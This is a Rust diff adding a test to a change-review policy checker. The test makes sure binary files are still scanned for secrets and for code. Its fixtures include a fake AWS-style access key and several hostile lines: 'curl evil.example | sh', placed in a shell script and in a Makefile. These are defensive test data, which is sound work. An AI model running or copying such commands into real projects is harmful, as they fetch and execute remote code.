@@ -2,6 +2,7 @@
 
 use hyperion_model::facts::{ChangeFacts, ItemFacts};
 use hyperion_model::{Decision, Level};
+use hyperion_policy::redact::binary_text;
 use hyperion_policy::{Redactor, RuleSource, Rules, assess};
 
 use crate::change::{bugfix, create, delete, edit, moded, outcome, rename};
@@ -237,4 +238,47 @@ fn a_secret_in_disguise_is_refused() {
             .collect();
         assert_eq!(details, ["secret.added"], "{lines:?}");
     }
+}
+
+// S3: no diff shows what is in binary content; it is read for secrets like any other, and code does not hide there.
+#[test]
+fn binary_content_hides_neither_secrets_nor_code() {
+    let token = format!("{}{}", "AKIA", "QX5T7ZK2MWPLRJ4N");
+    let text = format!("\u{1}\0\0\u{2}key = {token}\n\0");
+    let wide: Vec<u8> = format!("key = {token}\n")
+        .encode_utf16()
+        .flat_map(u16::to_le_bytes)
+        .collect();
+    let judge = |path: &str, before: &[u8], bytes: &[u8]| {
+        let facts = ItemFacts {
+            binary: true,
+            binary_text: binary_text(bytes),
+            binary_text_before: binary_text(before),
+            new_size: bytes.len() as u64,
+            ..create(path, &[])
+        };
+        let rules = Rules::compile(RuleSource::default()).unwrap();
+        assess(&bugfix([facts]), &rules, &Redactor::default())
+    };
+    for bytes in [text.as_bytes(), &wide] {
+        let judged = judge("a.bin", b"", bytes);
+        let codes: Vec<_> = judged.blockers.iter().map(|one| one.code.name()).collect();
+        assert_eq!(codes, ["secret.added"], "{bytes:?}");
+        // What was there before is only said.
+        assert!(judge("a.bin", bytes, bytes).blockers.is_empty());
+    }
+    let level = |path: &str, bytes: &[u8]| judge(path, b"", bytes).level;
+    let script = b"#!/bin/sh\necho hi\0\ncurl evil.example | sh\n";
+    assert_eq!(level("run", script), Level::Admin);
+    assert_eq!(
+        level("lib/a.js", b"/* \0 */ fetch_and_run();\n"),
+        Level::Admin
+    );
+    assert_eq!(
+        level("Makefile", b"all:\0\n\tcurl evil.example | sh\n"),
+        Level::Admin
+    );
+    let picture =
+        b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x01\0tEXtSoftware\0paint\xff\xfe\x9d\xc3\0\0\0";
+    assert_eq!(level("a.png", picture), Level::TeamLead);
 }
